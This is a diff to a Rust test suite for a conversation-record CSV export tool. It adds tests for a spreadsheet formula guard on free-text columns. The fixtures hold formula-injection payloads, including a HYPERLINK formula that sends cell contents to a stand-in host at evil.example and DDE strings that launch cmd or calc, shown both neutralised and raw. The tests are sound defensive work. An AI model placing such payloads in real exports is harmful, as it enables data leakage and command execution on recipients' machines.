@@ -1,6 +1,7 @@
 //! The column catalogue: every column against values computed here from the simulator's
-//! records, `--columns list` against the README, the refusals, denied name lookups, the
-//! default columns and resuming with other columns.
+//! records (the generated ones and the samples shaped like published ones), `--columns list`
+//! against the README, the refusals, denied name lookups, the default columns, resuming with
+//! other columns and the formula guard of free-text cells.
 
 use std::collections::HashMap;
 
@@ -40,6 +41,17 @@ fn sessions(c: &Value) -> impl Iterator<Item = (&Value, &Value)> {
             .map(move |s| (p, s))
     })
 }
+
+/// The ids of the simulator's sample records, shaped like records real orgs published.
+const SAMPLE_IDS: [&str; 7] = [
+    "5a000000-0000-4000-8000-000000000001",
+    "5a000000-0000-4000-8000-000000000002",
+    "xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx",
+    "5a000000-0000-4000-8000-000000000004",
+    "5a000000-0000-4000-8000-000000000005",
+    "5a000000-0000-4000-8000-000000000006",
+    "5a000000-0000-4000-8000-000000000007",
+];
 
 /// Every segment, with its participant.
 fn segments(c: &Value) -> impl Iterator<Item = (&Value, &Value)> {
@@ -81,6 +93,32 @@ fn text(c: &Value, field: &str) -> String {
     c[field].as_str().unwrap_or_default().to_string()
 }
 
+/// The free-text columns, whose cells the export guards against formulas by default.
+const FREE_TEXT: [&str; 4] = ["queue_names", "user_names", "wrap_up_names", "external_tag"];
+
+/// A free-text cell as a spreadsheet must see it: every `;`-separated value that begins with
+/// `=`, `+`, `-`, `@`, a tab or a CR gets a leading apostrophe.
+fn guarded(cell: &str) -> String {
+    cell.split(';')
+        .map(
+            |value| match value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                true => format!("'{value}"),
+                false => value.to_string(),
+            },
+        )
+        .collect::<Vec<_>>()
+        .join(";")
+}
+
+/// The cell a column holds in an export with the formula guard (the default).
+fn expected_guarded(column: &str, c: &Value, sim: &Sim) -> String {
+    let cell = expected(column, c, sim);
+    match FREE_TEXT.contains(&column) {
+        true => guarded(&cell),
+        false => cell,
+    }
+}
+
 /// The cell a column should hold for this record, computed from the record itself and the
 /// simulator's names. A column without an entry here fails the test: every column is checked.
 fn expected(column: &str, c: &Value, sim: &Sim) -> String {
@@ -114,8 +152,8 @@ fn expected(column: &str, c: &Value, sim: &Sim) -> String {
         "division_ids" => distinct(
             c["divisionIds"]
                 .as_array()
-                .unwrap()
-                .iter()
+                .into_iter()
+                .flatten()
                 .map(Value::as_str),
         )
         .join(";"),
@@ -144,15 +182,18 @@ fn expected(column: &str, c: &Value, sim: &Sim) -> String {
         "n_offered" => metric(c, "nOffered"),
         "n_transfers" => metric(c, "nTransferred"),
         "abandoned" => {
+            // Only a conversation offered to a queue can be abandoned.
+            let offered = metric(c, "nOffered").parse::<i64>().is_ok_and(|n| n > 0);
             let abandon = sessions(c).any(|(_, s)| {
                 s["metrics"]
                     .as_array()
                     .is_some_and(|ms| ms.iter().any(|m| m["name"] == "tAbandon"))
             });
-            match (abandon, c.get("conversationEnd").is_some()) {
-                (true, _) => "true",
-                (false, true) => "false",
-                (false, false) => "",
+            match (offered, abandon, c.get("conversationEnd").is_some()) {
+                (false, _, _) => "",
+                (true, true, _) => "true",
+                (true, false, true) => "false",
+                (true, false, false) => "",
             }
             .to_string()
         }
@@ -176,60 +217,113 @@ fn expected(column: &str, c: &Value, sim: &Sim) -> String {
     }
 }
 
+/// Exports every column of `sim`'s range through `mode` and checks each cell of each row
+/// against the record it comes from, and the ids against the ground truth; returns the rows,
+/// with the columns.
+fn every_column_checked(sim: &Sim, mode: &str) -> (Vec<String>, Vec<csv::StringRecord>) {
+    let columns = listed(sim);
+    assert!(columns.len() >= 30, "{columns:?}");
+    let dir = Dir::new("columns-all");
+    let out = dir.join("c.csv");
+    let run = export(
+        sim,
+        &Args::range()
+            .mode(mode)
+            .opt("--columns", &columns.join(","))
+            .out(&out),
+    );
+    run.expect_code(0);
+    let text = read(&out);
+    assert_eq!(text.lines().next().unwrap(), columns.join(","));
+    let records = csv_records(&text);
+    let id_at = columns.iter().position(|c| c == "conversation_id").unwrap();
+    let ids: Vec<String> = records.iter().map(|r| r[id_at].to_string()).collect();
+    assert_same_ids(&ids, &sim.ground_truth(ts(FROM), ts(TO)));
+    // How often each column holds something, and the values `abandoned` takes.
+    let mut filled: HashMap<&str, usize> = HashMap::new();
+    let mut abandoned: HashMap<String, usize> = HashMap::new();
+    for record in &records {
+        let c = sim.conversation(&record[id_at]).unwrap();
+        for (i, column) in columns.iter().enumerate() {
+            let want = expected_guarded(column, &c, sim);
+            assert_eq!(&record[i], want, "{mode}: {column} of {}", &record[id_at]);
+            *filled.entry(column).or_default() += usize::from(!want.is_empty());
+        }
+        let at = columns.iter().position(|c| c == "abandoned").unwrap();
+        *abandoned.entry(record[at].to_string()).or_default() += 1;
+    }
+    for column in &columns {
+        assert!(
+            filled.get(column.as_str()).is_some_and(|n| *n > 0),
+            "{mode}: the data never fills {column}"
+        );
+    }
+    for value in ["true", "false", ""] {
+        assert!(
+            abandoned.contains_key(value),
+            "{mode}: abandoned {value:?}: {abandoned:?}"
+        );
+    }
+    (columns, records)
+}
+
 #[test]
 fn every_catalogue_column_agrees_with_the_simulator_records() {
     let sim = sim_with(SimConfig::default());
-    let columns = listed(&sim);
-    assert!(columns.len() >= 30, "{columns:?}");
     for mode in ["query", "jobs"] {
-        let dir = Dir::new("columns-all");
-        let out = dir.join("c.csv");
-        let run = export(
-            &sim,
-            &Args::range()
-                .mode(mode)
-                .opt("--columns", &columns.join(","))
-                .out(&out),
-        );
-        run.expect_code(0);
-        let text = read(&out);
-        let mut lines = text.lines();
-        assert_eq!(lines.next().unwrap(), columns.join(","));
-        let records = csv_records(&text);
-        let id_at = columns.iter().position(|c| c == "conversation_id").unwrap();
-        let ids: Vec<String> = records.iter().map(|r| r[id_at].to_string()).collect();
-        assert_same_ids(&ids, &sim.ground_truth(ts(FROM), ts(TO)));
-        // How often each column holds something, and the values `abandoned` takes.
-        let mut filled: HashMap<&str, usize> = HashMap::new();
-        let mut abandoned: HashMap<String, usize> = HashMap::new();
-        for record in &records {
-            let c = sim.conversation(&record[id_at]).unwrap();
-            for (i, column) in columns.iter().enumerate() {
-                let want = expected(column, &c, &sim);
-                assert_eq!(&record[i], want, "{mode}: {column} of {}", &record[id_at]);
-                *filled.entry(column).or_default() += usize::from(!want.is_empty());
-            }
-            let at = columns.iter().position(|c| c == "abandoned").unwrap();
-            *abandoned.entry(record[at].to_string()).or_default() += 1;
-        }
-        for column in &columns {
-            assert!(
-                filled.get(column.as_str()).is_some_and(|n| *n > 0),
-                "{mode}: the data never fills {column}"
-            );
-        }
-        for value in ["true", "false", ""] {
-            assert!(
-                abandoned.contains_key(value),
-                "{mode}: abandoned {value:?}: {abandoned:?}"
-            );
-        }
+        every_column_checked(&sim, mode);
         // Names are looked up in bulk, once per id for the run: there are 24 users.
         let stats = sim.stats();
         assert!(
             stats.user_requests > 0 && stats.wrapup_code_requests > 0,
             "{stats:?}"
         );
+    }
+}
+
+#[test]
+fn every_catalogue_column_agrees_with_records_shaped_like_published_ones() {
+    let plain = sim_with(SimConfig::default());
+    let sim = sim_with(SimConfig {
+        samples: true,
+        ..SimConfig::default()
+    });
+    // The samples are added beside what the seed generates, which stays as it was.
+    let generated = plain.ground_truth(ts(FROM), ts(TO));
+    let mut with_samples = sim.ground_truth(ts(FROM), ts(TO));
+    with_samples.retain(|id| !SAMPLE_IDS.contains(&id.as_str()));
+    assert_eq!(with_samples, generated);
+    for id in &generated[..50] {
+        assert_eq!(sim.conversation(id), plain.conversation(id));
+    }
+    for mode in ["query", "jobs"] {
+        let (columns, records) = every_column_checked(&sim, mode);
+        let at = |name: &str| columns.iter().position(|c| c == name).unwrap();
+        let row = |id: &str| {
+            records
+                .iter()
+                .find(|r| &r[at("conversation_id")] == id)
+                .unwrap_or_else(|| panic!("{mode}: sample {id} not exported"))
+        };
+        for id in SAMPLE_IDS {
+            row(id);
+        }
+        // What the definitions say, on the samples: no queue, no abandon verdict; the agent
+        // who never answered counts in handle time; names that are formulas are neutralised
+        // and phone numbers are not.
+        assert_eq!(&row(SAMPLE_IDS[3])[at("abandoned")], "");
+        assert_eq!(&row(SAMPLE_IDS[4])[at("abandoned")], "");
+        assert_eq!(&row(SAMPLE_IDS[2])[at("abandoned")], "");
+        assert_eq!(&row(SAMPLE_IDS[0])[at("t_handle")], "400000");
+        assert_eq!(&row(SAMPLE_IDS[1])[at("n_offered")], "6");
+        assert_eq!(&row(SAMPLE_IDS[1])[at("n_transfers")], "5");
+        let hostile = row(SAMPLE_IDS[6]);
+        assert!(
+            hostile[at("queue_names")].starts_with("'=HYPERLINK("),
+            "{hostile:?}"
+        );
+        assert_eq!(&hostile[at("user_names")], "'+Mallory =cmd");
+        assert_eq!(&hostile[at("ani")], "+3312345");
     }
 }
 
@@ -420,4 +514,91 @@ fn resuming_with_other_columns_exits_2_and_the_same_columns_resume() {
     // The same columns resume, reading the ids back from the second column.
     export(&sim, &args).expect_code(0);
     assert_eq!(read(&out), read(&reference));
+}
+
+#[test]
+fn free_text_is_guarded_against_formulas_unless_raw_and_json_lines_is_untouched() {
+    let sim = sim_with(SimConfig {
+        samples: true,
+        ..SimConfig::default()
+    });
+    let hostile = SAMPLE_IDS[6];
+    let columns = "conversation_id,queue_names,user_names,wrap_up_names,external_tag,ani,dnis";
+    let args = Args::range()
+        .mode("jobs")
+        .window("6h")
+        .opt("--columns", columns)
+        .opt("--attribute", "note");
+    let row_of = |run: &Run| {
+        run.expect_code(0);
+        let records = csv_records(&run.stdout);
+        records.into_iter().find(|r| &r[0] == hostile).unwrap()
+    };
+    let guarded = row_of(&export(&sim, &args));
+    assert_eq!(
+        guarded.iter().collect::<Vec<_>>(),
+        [
+            hostile,
+            "'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
+            "'+Mallory =cmd",
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "'-2+3;'=cmd|' /C calc'!A0",
+            "+3312345",
+            "+18005550100",
+            "'=1+1",
+        ]
+    );
+    let raw = row_of(&export(&sim, &args.clone().flag("--no-formula-guard")));
+    assert_eq!(
+        raw.iter().collect::<Vec<_>>(),
+        [
+            hostile,
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
+            "+Mallory =cmd",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3;=cmd|' /C calc'!A0",
+            "+3312345",
+            "+18005550100",
+            "=1+1",
+        ]
+    );
+    // JSON Lines is the API's record: never guarded, and the option is refused there.
+    let run = export(&sim, &Args::range().mode("query").format("jsonl"));
+    run.expect_code(0);
+    let line = run.stdout.lines().find(|l| l.contains(hostile)).unwrap();
+    let record: Value = serde_json::from_str(line).unwrap();
+    assert_eq!(record, sim.conversation(hostile).unwrap());
+    assert_eq!(record["externalTag"], "-2+3;=cmd|' /C calc'!A0");
+    let run = export(
+        &sim,
+        &Args::range().format("jsonl").flag("--no-formula-guard"),
+    );
+    run.expect_code(2);
+    assert!(
+        run.stderr.contains("--no-formula-guard is for CSV cells"),
+        "{}",
+        run.stderr
+    );
+}
+
+#[test]
+fn resuming_with_the_other_formula_setting_exits_2() {
+    let sim = sim_with(SimConfig {
+        samples: true,
+        ..SimConfig::default()
+    });
+    let dir = Dir::new("columns-formulas");
+    let out = dir.join("c.csv");
+    let reference = dir.join("reference.csv");
+    let args = Args::range()
+        .mode("query")
+        .window("6h")
+        .opt("--columns", "conversation_id,queue_names,external_tag");
+    export(&sim, &args.clone().out(&reference)).expect_code(0);
+    let args = args.out(&out);
+    crash_at(&sim, &args, &out, "state-saved:3");
+    refused_as_another_export(&sim, &args.clone().flag("--no-formula-guard"), &out);
+    export(&sim, &args).expect_code(0);
+    assert_eq!(read(&out), read(&reference));
+    assert!(read(&out).contains("\"'=HYPERLINK("), "the guarded cell");
 }
